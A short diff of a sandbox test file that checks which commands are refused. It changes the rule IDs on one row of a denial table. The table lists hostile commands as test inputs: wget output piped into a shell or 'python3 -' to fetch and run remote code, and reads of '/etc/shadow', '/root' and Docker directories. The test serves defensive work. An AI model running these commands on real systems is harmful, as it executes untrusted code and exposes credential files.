@@ -120,7 +120,7 @@ describe('the sandbox refuses', () => {
     row('9.4', sh('. <(wget -qO- x)'), '806'),
     row('9.4', sh('wget -qO- x | python3 -'), '806'),
     // Denied paths, by segments.
-    row('S1.PATH.01', 'cat /etc/shadow', '807'),
+    row('S1.PATH.01, S1.MIT.03', 'cat /etc/shadow', '807'),
     row('S1.PATH.01', 'ls /root', '807'),
     row('S1.PATH.01', 'ls /var/lib/docker', '807'),
     row('S1.PATH.01', 'cat /proc/sys/kernel/hostname', '807'),
